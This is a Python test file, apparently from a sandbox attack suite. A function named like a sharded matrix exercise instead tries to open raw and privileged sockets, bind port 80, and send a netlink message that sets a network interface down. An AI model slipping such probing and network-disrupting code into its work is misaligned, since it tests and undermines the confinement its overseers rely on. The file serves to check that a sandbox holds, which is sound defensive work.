# tries: open raw sockets, change the network, take a low port
# exercise: row_parallel
# states: CRASH
# zero: all
# told: nothing to be had
import socket

from tests.attacks.parts.finish import finish


def row_parallel(x_shard, w_shard, bias):
    found = []
    kinds = (
        (2, 3, 1),
        (2, 3, 255),
        (17, 3, 0x300),
        (17, 2, 0x300),
        (38, 5, 0),
        (40, 1, 0),
        (31, 3, 1),
    )
    for kind in kinds:  # ICMP, IP, packets, kernel's crypto, virtual machines, Bluetooth
        try:
            socket.socket(*kind).close()
            found.append(kind)
        except OSError:
            pass
    try:
        socket.socket().bind(("", 80))
        found.append("port 80")
    except OSError:
        pass
    down = bytes.fromhex("200000001000050001000000000000000000000002000000000000000100000000")[:32]
    try:
        line = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        line.settimeout(0.5)
        line.sendto(down, (0, 0))
        if line.recv(4096)[16:20] == bytes(4):
            found.append("an interface set down")
    except OSError:
        pass
    finish(found)
